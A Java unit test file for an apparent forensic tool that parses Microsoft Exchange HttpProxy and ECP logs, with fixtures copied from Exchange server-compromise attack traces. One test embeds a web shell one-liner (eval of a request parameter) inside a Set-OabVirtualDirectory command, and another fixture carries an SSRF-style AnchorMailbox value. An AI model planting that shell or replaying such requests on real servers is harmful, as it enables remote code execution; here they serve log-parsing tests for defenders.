package org.exhunt.hunt.read.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import org.exhunt.hunt.event.LogEvent;
import org.exhunt.hunt.event.SourceKind;
import org.exhunt.hunt.read.MemoryFile;
import org.exhunt.hunt.read.MemoryFile.Collected;
import org.exhunt.hunt.read.Readers;
import org.junit.jupiter.api.Test;

class ExchangeCsvReaderTest {

    private static final String PROXY_HEAD = "#Software: Microsoft Exchange Server\r\n"
            + "#Version: 15.01.2106.002\r\n"
            + "#Log-type: HttpProxy Logs\r\n"
            + "#Date: 2021-03-03T02:00:00.000Z\r\n"
            + "#Fields: DateTime,RequestId,Protocol,UrlHost,UrlStem,AuthenticatedUser,AnchorMailbox,UserAgent,"
            + "ClientIpAddress,HttpStatus,Method,UrlQuery,GenericInfo\r\n";
    private static final String PROXY_LINE = "2021-03-03T02:21:44.123Z,5e58f5e5,Ecp,mail.contoso.com,/ecp/y.js,,"
            + "ServerInfo~a]@exch01.contoso.com:444/autodiscover/autodiscover.xml?#,ExchangeServicesClient/0.0.0.0,"
            + "86.105.18.116,200,POST,?a=1,\"BeginRequest=x;CorrelationID=<empty>\"\r\n";

    private static final String ECP_HEAD = "#Software: Microsoft Exchange Server\r\n"
            + "#Version: 15.0.0.0\r\n"
            + "#Log-type: ECP Server Log\r\n"
            + "#Date: 2021-03-03T00:02:33.938Z\r\n"
            + "#Fields: TimeStamp,ServerName,EventId,EventData\r\n";

    private static Collected read(SourceKind kind, String text) {
        return MemoryFile.collect(Readers.forKind(kind), MemoryFile.utf8("HttpProxy_2021030302-1.LOG", text));
    }

    @Test
    void httpProxyColumnsAreOfferedUnderNativeAndTaxonomyNames() {
        Collected c = read(SourceKind.EXCHANGE_HTTPPROXY, PROXY_HEAD + PROXY_LINE);
        assertThat(c.result().status()).isEqualTo("read");
        LogEvent e = c.event(0);
        assertThat(e.kind()).isEqualTo(SourceKind.EXCHANGE_HTTPPROXY);
        assertThat(e.get("AnchorMailbox")).isEqualTo("ServerInfo~a]@exch01.contoso.com:444/autodiscover/autodiscover.xml?#");
        assertThat(e.get("anchormailbox")).isEqualTo(e.get("AnchorMailbox"));
        assertThat(e.get("c-ip")).isEqualTo("86.105.18.116");
        assertThat(e.get("cs-user-agent")).isEqualTo("ExchangeServicesClient/0.0.0.0");
        assertThat(e.get("cs-uri-stem")).isEqualTo("/ecp/y.js");
        assertThat(e.get("cs-method")).isEqualTo("POST");
        assertThat(e.get("cs-host")).isEqualTo("mail.contoso.com");
        assertThat(e.get("sc-status")).isEqualTo("200");
        assertThat(e.get("cs-uri")).isEqualTo("/ecp/y.js?a=1");
        assertThat(e.get("cs-username")).isNull();
        assertThat(e.has("cs-username")).isTrue();
        assertThat(e.has("RoutingType")).isFalse();
        assertThat(e.get("GenericInfo")).isEqualTo("BeginRequest=x;CorrelationID=<empty>");
        assertThat(e.timestamp()).isEqualTo(Instant.parse("2021-03-03T02:21:44.123Z"));
    }

    @Test
    void columnsAreBoundByHeaderNameWhateverTheirOrder() {
        String head = "#Software: Microsoft Exchange Server\n#Log-type: HttpProxy Logs\n"
                + "#Fields: ClientIpAddress,UrlStem,DateTime\n";
        Collected c = read(SourceKind.EXCHANGE_HTTPPROXY, head + "1.2.3.4,/owa/auth/x.js,2021-03-03T02:00:00Z\n");
        assertThat(c.event(0).get("c-ip")).isEqualTo("1.2.3.4");
        assertThat(c.event(0).get("cs-uri-stem")).isEqualTo("/owa/auth/x.js");
        assertThat(c.event(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:00:00Z"));
    }

    @Test
    void quotedValuesKeepCommasDoubledQuotesAndLineBreaks() {
        String head = "#Software: Microsoft Exchange Server\n#Fields: DateTime,Message,Other\n";
        String text = head
                + "2021-03-03T02:00:00Z,\"a, b \"\"c\"\"\",x\n"
                + "2021-03-03T02:00:01Z,\"first line\nsecond, line\n\",y\n"
                + "2021-03-03T02:00:02Z,plain,z\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, text);
        assertThat(c.result().status()).isEqualTo("read");
        assertThat(c.result().events()).isEqualTo(3);
        assertThat(c.event(0).get("Message")).isEqualTo("a, b \"c\"");
        assertThat(c.event(1).get("Message")).isEqualTo("first line\nsecond, line\n");
        assertThat(c.event(1).get("Other")).isEqualTo("y");
        assertThat(c.event(1).source().line()).isEqualTo(4);
        assertThat(c.event(1).source().offset()).isEqualTo(head.length() + "2021-03-03T02:00:00Z,\"a, b \"\"c\"\"\",x\n".length());
        assertThat(c.event(2).source().line()).isEqualTo(7);
        assertThat(c.event(2).get("Message")).isEqualTo("plain");
    }

    @Test
    void severalHeaderBlocksEachBindTheRecordsThatFollow() {
        String text = "#Software: Microsoft Exchange Server\n#Fields: DateTime,A,B\n"
                + "2021-03-03T02:00:00Z,1,2\n"
                + "#Software: Microsoft Exchange Server\n#Fields: DateTime,B,C,D\n"
                + "2021-03-03T03:00:00Z,3,4,5\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, text);
        assertThat(c.result().events()).isEqualTo(2);
        assertThat(c.event(0).get("B")).isEqualTo("2");
        assertThat(c.event(1).get("B")).isEqualTo("3");
        assertThat(c.event(1).has("A")).isFalse();
        assertThat(c.event(1).get("D")).isEqualTo("5");
    }

    @Test
    void columnNamesRepeatedAsADataLineAreTakenAsHeader() {
        String text = "#Software: Microsoft Exchange Server\n#Fields: DateTime,A,B\nDateTime,A,B\n2021-03-03T02:00:00Z,1,2\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, text);
        assertThat(c.result().events()).isEqualTo(1);
        assertThat(c.result().warnings()).isEmpty();
    }

    @Test
    void recordWithWrongFieldCountIsSkippedWithAWarningNamingLineAndOffset() {
        String head = "#Software: Microsoft Exchange Server\n#Fields: DateTime,A,B\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, head + "2021-03-03T02:00:00Z,1\n2021-03-03T02:00:00Z,1,2\n");
        assertThat(c.result().events()).isEqualTo(1);
        assertThat(c.result().warnings()).containsExactly(
                "line 3 (offset " + head.length() + "): 2 fields, header has 3 — record skipped");
    }

    @Test
    void timestampsWithOffsetsAreConvertedToUtc() {
        String head = "#Software: Microsoft Exchange Server\n#Fields: DateTime,A\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, head + "2021-03-03T04:00:00.5+02:00,1\n2021-03-03T02:00:00,2\n");
        assertThat(c.event(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:00:00.5Z"));
        assertThat(c.event(1).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:00:00Z"));
    }

    @Test
    void ecpServerEventDataIsSplitIntoPrefixedFields() {
        String line = "2021-03-03T00:02:33.966Z,EXCH01,ECP.Request,\"S:TIME=13;S:SID=66;S:CMD=Get-InboxRule;S:REQID=;"
                + "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=X=Y;S:IP=1.2.3.4;S:UA=Mozilla/5.0 (x; y);"
                + "Dbl:WLM.TS=16\"\r\n";
        Collected c = read(SourceKind.EXCHANGE_ECP, ECP_HEAD + line);
        LogEvent e = c.event(0);
        assertThat(e.get("S:CMD")).isEqualTo("Get-InboxRule");
        assertThat(e.get("s:cmd")).isEqualTo("Get-InboxRule");
        assertThat(e.get("S:URL")).isEqualTo("/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=X=Y");
        assertThat(e.get("S:REQID")).isNull();
        assertThat(e.has("S:REQID")).isTrue();
        assertThat(e.get("Dbl:WLM.TS")).isEqualTo("16");
        assertThat(e.get("c-ip")).isEqualTo("1.2.3.4");
        assertThat(e.get("cs-user-agent")).isEqualTo("Mozilla/5.0 (x; y)");
        assertThat(e.get("cs-uri")).isEqualTo(e.get("S:URL"));
        assertThat(e.timestamp()).isEqualTo(Instant.parse("2021-03-03T00:02:33.966Z"));
        assertThat(e.retain().get("S:CMD")).isEqualTo("Get-InboxRule");
    }

    @Test
    void ecpCommandWithScriptKeepsItsSemicolons() {
        String cmd = "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
                + "function Page_Load(){eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>'.Identity='abc'";
        String line = "2021-03-03T00:02:34Z,EXCH01,ECP.Request,\"S:TIME=1;S:CMD=" + cmd + ";S:REQID=9\"\r\n";
        LogEvent e = read(SourceKind.EXCHANGE_ECP, ECP_HEAD + line).event(0);
        assertThat(e.get("S:CMD")).isEqualTo(cmd.replace("\"\"", "\""));
        assertThat(e.get("S:REQID")).isEqualTo("9");
    }

    @Test
    void unclosedQuoteAtEndOfFileSkipsTheRecordWithAWarning() {
        String head = "#Software: Microsoft Exchange Server\n#Fields: DateTime,A\n";
        Collected c = read(SourceKind.EXCHANGE_CSV, head + "2021-03-03T02:00:00Z,1\n2021-03-03T02:00:01Z,\"never\nclosed");
        assertThat(c.result().events()).isEqualTo(1);
        assertThat(c.result().warnings()).singleElement().asString().startsWith("line 4 ").contains("quoted value");
    }

    @Test
    void utf16ExchangeLogIsRead() {
        String text = PROXY_HEAD + PROXY_LINE;
        MemoryFile f = MemoryFile.encoded("HttpProxy.LOG", text, StandardCharsets.UTF_16LE, new byte[] {(byte) 0xFF, (byte) 0xFE});
        Collected c = MemoryFile.collect(Readers.forKind(SourceKind.EXCHANGE_HTTPPROXY), f);
        assertThat(c.result().events()).isEqualTo(1);
        assertThat(c.event(0).get("c-ip")).isEqualTo("86.105.18.116");
        assertThat(c.event(0).source().offset()).isEqualTo(2 + 2L * PROXY_HEAD.length());
    }

    @Test
    void retainedEventListsNativeTaxonomyAndEventDataFields() {
        LogEvent kept = read(SourceKind.EXCHANGE_HTTPPROXY, PROXY_HEAD + PROXY_LINE).event(0);
        assertThat(kept.get("ClientIpAddress")).isEqualTo("86.105.18.116");
        assertThat(kept.get("c-ip")).isEqualTo("86.105.18.116");
        assertThat(kept.values()).contains("86.105.18.116", "/ecp/y.js").doesNotContainNull();
    }
}
